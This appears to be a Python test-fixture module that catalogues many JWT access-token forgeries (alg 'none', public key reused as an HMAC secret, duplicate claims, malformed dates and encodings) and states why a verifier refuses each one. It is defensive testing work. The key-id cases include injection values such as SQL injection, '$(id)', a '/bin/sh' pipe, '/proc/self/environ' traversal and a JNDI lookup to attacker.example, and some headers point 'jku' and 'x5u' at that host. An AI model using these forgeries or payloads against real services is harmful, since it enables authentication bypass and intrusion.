"""Every way to forge an access token that we know of, by name, and why each is refused (T2).

A workshop holds a genuine issuer and a forger, whichever issuer, tenant and moment they work with: the same cases go
through the verifier, through two libraries used plainly, and through the whole API.
"""

import json
from dataclasses import dataclass
from typing import Final

from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.hashes import SHA1, SHA256, SHA384, SHA512

from tests.unit.identity.forgery import ISSUER, Absent, encode
from tests.unit.identity.forging import (
    Forge,
    as_json,
    dated,
    der,
    jwk_of,
    keyed_by,
    names_of,
    other_curve,
    pem,
    pkcs1_pem,
    short_key,
    signed_otherwise,
    spare_bits,
    swapped_payload,
    unsigned,
    with_claims,
    with_header,
    with_header_text,
    with_members,
    with_payload,
    with_raw_claims,
    with_signature,
    with_text,
)


@dataclass(frozen=True)
class Group:
    """Forgeries of one kind. `because` says why they are refused even where a library would believe them."""

    title: str
    because: str
    cases: dict[str, Forge]


ALGORITHMS: Final = Group(
    "Algorithms and signatures",
    "only RS256 by a published key counts",
    {
        **{f"algorithm {name!r}": unsigned(name) for name in ("none", "None", "NONE", "nOnE", " none", "none\0", "")},
        "algorithm none, but signed": with_header(alg="none"),
        **{
            f"signed, algorithm {name!r}": with_header(alg=name)
            for name in ("HS256", "RS384", "RS512", "PS256", "ES256", "EdDSA", "rs256", "RS256 ", "RSA-OAEP")
        },
        "algorithm list": with_header(alg=["RS256"]),
        "algorithm number": with_header(alg=256),
        "algorithm true": with_header(alg=True),
        "algorithm null": with_header(alg=None),
        "algorithm absent": with_header(alg=Absent),
        "unsigned, said to be signed": unsigned("RS256"),
        "zeros for a signature": unsigned("RS256", bytes(256)),
        "one for a signature": unsigned("RS256", b"\x01".rjust(256, b"\0")),
        "all ones for a signature": unsigned("RS256", b"\xff" * 256),
        "one byte for a signature": unsigned("RS256", b"\0"),
        "zeros for an elliptic signature": unsigned("ES256", bytes(64)),
        "elliptic signature": other_curve,
        "public key as a secret": keyed_by(pem),
        "public key as a secret, no line feed": keyed_by(lambda shop: pem(shop).strip()),
        "public key as a secret, PKCS 1": keyed_by(pkcs1_pem),
        "public key as a secret, DER": keyed_by(der),
        "public key as a secret, HS384": keyed_by(pem, "HS384", "sha384"),
        "public key as a secret, HS512": keyed_by(pem, "HS512", "sha512"),
        "public key as a secret, said to be RS256": keyed_by(pem, "RS256"),
        "key set as a secret": keyed_by(lambda shop: json.dumps(shop.jwk).encode()),
        "modulus as a secret": keyed_by(lambda shop: shop.jwk["n"].encode()),
        "key id as a secret": keyed_by(lambda shop: shop.jwk["kid"].encode()),
        "empty secret": keyed_by(lambda shop: b""),
        "nul as a secret": keyed_by(lambda shop: b"\0"),
        "signed by a stranger": lambda shop: shop.bad.genuine(),
        "signed by a short key": short_key,
        "PSS, said to be RS256": signed_otherwise(padding.PSS(padding.MGF1(SHA256()), 32), SHA256()),
        "SHA-1, said to be RS256": signed_otherwise(padding.PKCS1v15(), SHA1()),  # noqa: S303 (the point of the case)
        "SHA-384, said to be RS256": signed_otherwise(padding.PKCS1v15(), SHA384()),
        "SHA-512, said to be RS256": signed_otherwise(padding.PKCS1v15(), SHA512()),
        "signature and the modulus": with_signature(
            lambda signature, modulus: (int.from_bytes(signature) + modulus).to_bytes(257)
        ),
        "signature with a nul before it": with_signature(lambda signature, _: b"\0" + signature),
        "signature with a nul behind it": with_signature(lambda signature, _: signature + b"\0"),
        "signature cut": with_signature(lambda signature, _: signature[:-1]),
        "signature backwards": with_signature(lambda signature, _: signature[::-1]),
        "signature bit flipped": with_signature(lambda signature, _: bytes([signature[0] ^ 1]) + signature[1:]),
        "payload swapped": swapped_payload,
    },
)

HEADERS: Final = Group(
    "Names in the header",
    "the header says alg, typ and kid, and nothing that could change how the token is read",
    {
        "critical extension": with_header(crit=["exp"], exp=4_000_000_000),
        "critical b64": with_header(crit=["b64"], b64=True),
        "unencoded payload": with_header(crit=["b64"], b64=False),
        "critical, of nothing": with_header(crit=[]),
        "critical null": with_header(crit=None),
        "critical text": with_header(crit="b64"),
        "b64 alone": with_header(b64=True),
        "b64 alone, false": with_header(b64=False),
        "key sent along": lambda shop: shop.bad.with_header(jwk=jwk_of(shop.bad)),
        "key sent along, under the genuine id": lambda shop: shop.bad.with_header(
            jwk={**jwk_of(shop.bad), **names_of(shop)}
        ),
        "genuine key sent along": lambda shop: shop.good.with_header(jwk=shop.jwk),
        "key by address": with_header(jku="https://attacker.example/keys.json"),
        "key by address, stranger's signature": lambda shop: shop.bad.with_header(jku="https://attacker.example/keys"),
        "key by loopback address": with_header(jku="http://127.0.0.1/keys.json"),
        "certificate by address": with_header(x5u="https://attacker.example/chain.pem"),
        "certificate chain": with_header(x5c=["MIIB"]),
        "certificate chain, stranger's signature": lambda shop: shop.bad.with_header(x5c=["MIIB"]),
        "certificate thumbprint": with_header(x5t="AAAA"),
        "certificate thumbprint, SHA-256": with_header(**{"x5t#S256": "AAAA"}),
        "compressed": with_header(zip="DEF"),
        "nested token": with_header(cty="JWT"),
        "claims repeated in the header": with_header(iss=ISSUER),
        "unknown name": with_header(alg2="none"),
        "encrypted": with_header(enc="A256GCM"),
        "prototype": with_header(__proto__={"alg": "none"}),
        "empty name": with_header(**{"": "x"}),
    },
)

TYPES: Final = Group(
    "Types",
    "an access token says at+jwt (RFC 9068), so that no other token of the issuer passes for one",
    {
        **{
            f"type {name!r}": with_header(typ=name)
            for name in ("JWT", "jwt", "application/at+jwt", "AT+JWT", "at+jwt ", "id+jwt", "logout+jwt", "rt+jwt", "")
        },
        "type absent": with_header(typ=Absent),
        "type null": with_header(typ=None),
        "type list": with_header(typ=["at+jwt"]),
    },
)

KEY_IDS: Final = Group(
    "Key ids",
    "a key id is a plain name that the key set knows",
    {
        "key id absent": with_header(kid=Absent),
        "key id null": with_header(kid=None),
        "key id number": with_header(kid=1),
        "key id true": with_header(kid=True),
        "key id list": lambda shop: shop.good.with_header(kid=[shop.jwk["kid"]]),
        "key id object": lambda shop: shop.good.with_header(kid={"kid": shop.jwk["kid"]}),
        "key id with a line feed": lambda shop: shop.good.with_header(kid=shop.jwk["kid"] + "\n"),
        "key id with a nul": lambda shop: shop.good.with_header(kid=shop.jwk["kid"] + "\0"),
        "key id with a space": lambda shop: shop.good.with_header(kid=" " + shop.jwk["kid"]),
        "key id in other letters": lambda shop: shop.good.with_header(kid=shop.jwk["kid"].swapcase() + "A"),
        "key id and more": lambda shop: shop.good.with_header(kid=shop.jwk["kid"] + "#2"),
        **{
            f"key id {kid[:40]!r}": with_header(kid=kid)
            for kid in (
                "", "0", "key-2", "null", "undefined", "__proto__", "constructor",
                "../../../../dev/null", "/dev/null", "..\\..\\windows\\win.ini", "file:///dev/null",
                "/proc/self/environ",
                "key-1' UNION SELECT 'secret", "' OR '1'='1", "1; DROP TABLE keys", '{"$ne": null}', "*)(uid=*",
                "key-1|/bin/sh", "$(id)", "`id`", "${jndi:ldap://attacker.example/a}", "{{7*7}}", "%2e%2e%2f", "%00",
                "https://attacker.example/key", "jwks#key", "t#acme", "кey-1", "k" * 129, "a" * 4000,
            )
        },
    },
)  # fmt: skip

DATES: Final = Group(
    "Dates",
    "dates are whole seconds, an expired token gets no grace, and none lives longer than an hour",
    {
        "expired this second": dated(exp=0),
        "expired long ago": dated(iat=-4000, exp=-1000),
        "expired ten seconds ago": dated(exp=-10),
        "lives a second too long": dated(iat=-60, exp=3541),
        "lives for years": dated(exp=10**9),
        "expires never": with_raw_claims(exp=b"9223372036854775807"),
        "expires in milliseconds": dated(exp=10**12),
        "expires at a number of 5,000 digits": with_raw_claims(exp=b"9" * 5000),
        "expires at minus one": with_claims(exp=-1),
        "expiry as text": lambda shop: shop.good.with_claims(exp=str(shop.now_s + 600)),
        "expiry as fraction": dated(exp=600.5),
        "expiry as whole fraction": lambda shop: shop.good.with_claims(exp=float(shop.now_s + 600)),
        "expiry with an exponent": lambda shop: shop.written(exp=b"%de0" % (shop.now_s + 600)),
        "expiry true": with_claims(exp=True),
        "expiry list": lambda shop: shop.good.with_claims(exp=[shop.now_s + 600]),
        "expiry object": lambda shop: shop.good.with_claims(exp={"$gt": 0}),
        "expiry as a date": with_claims(exp="2099-01-01T00:00:00Z"),
        "expiry infinite": with_claims(exp=float("inf")),
        "expiry not a number": with_claims(exp=float("nan")),
        "expiry huge": with_raw_claims(exp=b"1e400"),
        "born after its end": dated(iat=20, exp=10),
        "from the future": dated(iat=120, exp=600),
        "from far in the past, for long": with_claims(iat=0),
        "birth as text": lambda shop: shop.good.with_claims(iat=str(shop.now_s - 60)),
        "birth as fraction": dated(iat=-60.5),
        "birth false": with_claims(iat=False),
        "birth list": lambda shop: shop.good.with_claims(iat=[shop.now_s]),
        "birth minus infinity": with_claims(iat=float("-inf")),
        "not yet": dated(nbf=120),
        "not before null": with_claims(nbf=None),
        "not before text": lambda shop: shop.good.with_claims(nbf=str(shop.now_s - 60)),
        "not before as fraction": dated(nbf=-1.5),
        "not before false": with_claims(nbf=False),
    },
)

PARTIES: Final = Group(
    "Issuer and audience",
    "issuer and audience are compared letter by letter, and nobody needs a token for more than 16 audiences",
    {
        "other issuer": with_claims(iss="https://attacker.example"),
        "issuer with a slash": lambda shop: shop.good.with_claims(iss=shop.claims["iss"] + "/"),
        "issuer with a space": lambda shop: shop.good.with_claims(iss=shop.claims["iss"] + " "),
        "issuer in capitals": lambda shop: shop.good.with_claims(iss=shop.claims["iss"].upper()),
        "issuer part": lambda shop: shop.good.with_claims(iss=shop.claims["iss"][:-1]),
        "issuer list": lambda shop: shop.good.with_claims(iss=[shop.claims["iss"]]),
        "issuer object": lambda shop: shop.good.with_claims(iss={shop.claims["iss"]: True}),
        "issuer empty": with_claims(iss=""),
        "other audience": with_claims(aud="tessera-admin"),
        "audience part": with_claims(aud="tess"),
        "audience in capitals": with_claims(aud="TESSERA"),
        "audience with a space": with_claims(aud="tessera "),
        "audience empty": with_claims(aud=""),
        "audience list empty": with_claims(aud=[]),
        "audience lists of others": with_claims(aud=["a", "b"]),
        "audience list in a list": with_claims(aud=[["tessera"]]),
        "audience object": with_claims(aud={"tessera": True}),
        "audience true": with_claims(aud=True),
        "audience list with a number": with_claims(aud=["tessera", 1]),
        "audience list without end": with_claims(aud=["tessera"] * 17),
    },
)

SUBJECTS: Final = Group(
    "Tenant, user, role, session and token id",
    "they become parts of keys, and a role is one of ours: nothing that is not exactly such a name passes",
    {
        **{f"{name} absent": with_claims(**{name: Absent}) for name in
           ("iss", "aud", "sub", "jti", "iat", "exp", "tenant", "role")},
        **{f"{name} null": with_claims(**{name: None}) for name in
           ("iss", "aud", "sub", "jti", "iat", "exp", "tenant", "role")},
        **{f"tenant {tenant[:20]!r}": with_claims(tenant=tenant) for tenant in
           ("", "Acme", "acme#kb", "acme/kb", "..", "*", "acme\n", "acme\0", " acme", "-acme", "аcme", "a" * 64)},
        "tenant list": with_claims(tenant=["acme"]),
        "tenant number": with_claims(tenant=7),
        "tenant object": with_claims(tenant={"acme": True}),
        **{f"user {user[:20]!r}": with_claims(sub=user) for user in
           ("", "ada#1", "ada lovelace", "ada\n", "ada\0", "#", "ada/../root", "a" * 129)},
        "user with half a character": with_claims(sub="ada\ud800"),
        "user number": with_claims(sub=7),
        "user list": with_claims(sub=["ada"]),
        **{f"role {role!r}": with_claims(role=role) for role in ("", "OWNER", "root", "owner ", "owner,viewer", "*")},
        "role list": with_claims(role=["owner"]),
        "role object": with_claims(role={"owner": True}),
        "role true": with_claims(role=True),
        **{f"session {session[:20]!r}": with_claims(sid=session) for session in
           ("", "ses_", "ses_#", "ses_" + "0" * 25, "ses_" + "0" * 27, "key_" + "0" * 26, "ses_" + "U" * 26)},
        "session null": with_claims(sid=None),
        "session number": with_claims(sid=5),
        "session list": with_claims(sid=["ses_" + "0" * 26]),
        "token id empty": with_claims(jti=""),
        "token id number": with_claims(jti=5),
        "token id list": with_claims(jti=["b2c3"]),
        "token id with a space": with_claims(jti="b2 c3"),
        "token id too long": with_claims(jti="j" * 256),
    },
)  # fmt: skip

READINGS: Final = Group(
    "Two readings of one token",
    "equal names, JSON that parsers read in different ways, and whatever stands behind the object are refused",
    {
        **{f"claims twice {name}": with_payload(with_members(f'"{name}": "globex"'.encode())) for name in
           ("iss", "aud", "sub", "jti", "tenant", "role")},
        "claims twice the genuine tenant": lambda shop: shop.sign(
            payload=with_members(f'"tenant": "{shop.claims["tenant"]}"'.encode())(json.dumps(shop.claims).encode())
        ),
        "claims twice the role, escaped": with_payload(with_members(rb'"\u0072ole": "owner"')),
        "claims twice the expiry": with_payload(with_members(b'"exp": 4000000000')),
        "equal names inside a claim": with_payload(with_members(b'"act": {"sub": "a", "sub": "b"}')),
        "equal unknown names": with_payload(with_members(b'"x": 1, "x": 2')),
        "header twice the algorithm": with_header_text(with_members(b'"alg": "none"')),
        "header twice the genuine algorithm": with_header_text(with_members(b'"alg": "RS256"')),
        "header twice the key id": lambda shop: shop.sign(
            header=with_members(f'"kid": "{shop.jwk["kid"]}"'.encode())(json.dumps(shop.header).encode())
        ),
        "header twice the type": with_header_text(with_members(b'"typ": "at+jwt"')),
        "payload array": lambda shop: shop.sign(payload=[shop.claims]),
        "payload empty array": lambda shop: shop.sign(payload=b"[]"),
        "payload text": lambda shop: shop.sign(payload=b'"acme"'),
        "payload number": lambda shop: shop.sign(payload=b"1"),
        "payload null": lambda shop: shop.sign(payload=b"null"),
        "payload empty object": lambda shop: shop.sign(payload=b"{}"),
        "payload empty": lambda shop: shop.sign(payload=b""),
        "payload not JSON": lambda shop: shop.sign(payload=b"tenant=acme"),
        "payload written twice": lambda shop: shop.sign(payload=json.dumps(json.dumps(shop.claims)).encode()),
        "payload with more behind it": with_payload(lambda text: text + b"{}"),
        "payload twice": with_payload(lambda text: text + text),
        "payload with a letter behind it": with_payload(lambda text: text + b"x"),
        "payload with a nul behind it": with_payload(lambda text: text + b"\0"),
        "payload with a byte order mark": with_payload(lambda text: b"\xef\xbb\xbf" + text),
        "payload in UTF-16": with_payload(lambda text: text.decode().encode("utf-16")),
        "payload in UTF-32": with_payload(lambda text: text.decode().encode("utf-32-be")),
        "payload with bad UTF-8": with_payload(with_members(b'"x": "\xff"')),
        "payload with a comment": with_payload(lambda text: text + b"/* */"),
        "payload with a comma too many": with_payload(lambda text: text[:-1] + b",}"),
        "payload in single quotes": with_payload(lambda text: text.replace(b'"', b"'")),
        "payload with NaN": with_claims(weight=float("nan")),
        "payload too deep": with_payload(with_members(b'"deep": ' + b"[" * 2000 + b"]" * 2000)),
        "header array": lambda shop: shop.sign(header=[shop.header]),
        "header empty": lambda shop: shop.sign(header=b"{}"),
        "header text": lambda shop: shop.sign(header=b'"RS256"'),
        "header with more behind it": with_header_text(lambda text: text + b" x"),
        "header with a byte order mark": with_header_text(lambda text: b"\xef\xbb\xbf" + text),
        "header with a nul behind it": with_header_text(lambda text: text + b"\0"),
    },
)  # fmt: skip

FORMS: Final = Group(
    "The form of a token",
    "a token is three canonical base64url segments of 8 KB at most: one content has one spelling",
    {
        "too large": with_claims(padding="x" * 8192),
        "far too large": with_claims(padding="x" * 100_000),
        "spare bits used": with_text(spare_bits),
        "padded": with_text(lambda token: token + "=="),
        "fourth segment": with_text(lambda token: token + ".e30"),
        "trailing dot": with_text(lambda token: token + "."),
        "leading dot": with_text(lambda token: "." + token),
        "trailing line feed": with_text(lambda token: token + "\n"),
        "trailing nul": with_text(lambda token: token + "\0"),
        "leading line feed": with_text(lambda token: "\n" + token),
        "nul inside": with_text(lambda token: token.replace(".", ".\0", 1)),
        "space inside": with_text(lambda token: token.replace(".", " .", 1)),
        "line feed in a segment": with_text(lambda token: token.replace(".", "\n.", 1)),
        "two tokens": with_text(lambda token: f"{token},{token}"),
        "with its scheme": with_text(lambda token: f"Bearer {token}"),
        "in quotes": with_text(lambda token: f'"{token}"'),
        "not ASCII": with_text(lambda token: token + "é"),
        "full-width dots": with_text(lambda token: token.replace(".", "．")),
        "letters swapped": with_text(str.swapcase),
        "header only": with_text(lambda token: token.partition(".")[0]),
        "header and payload": with_text(lambda token: token.rpartition(".")[0]),
        "payload detached": with_text(lambda token: "..".join(token.split(".")[::2])),
        "dots": with_text(lambda token: ".."),
        "one segment": with_text(lambda token: "e30"),
        "standard base64": lambda shop: shop.good.with_claims(x="??>>??>>~~").replace("_", "/").replace("-", "+"),
        "percent encoded": with_text(lambda token: token.replace(".", "%2E")),
        "encrypted token": with_text(
            lambda token: ".".join([encode(b'{"alg":"RSA-OAEP","enc":"A256GCM"}')] + ["AAAA"] * 4)
        ),
        "JSON serialisation": as_json,
    },
)

GROUPS: Final = (ALGORITHMS, HEADERS, TYPES, KEY_IDS, DATES, PARTIES, SUBJECTS, READINGS, FORMS)
FORGERIES: Final[dict[str, Forge]] = {name: forge for group in GROUPS for name, forge in group.cases.items()}
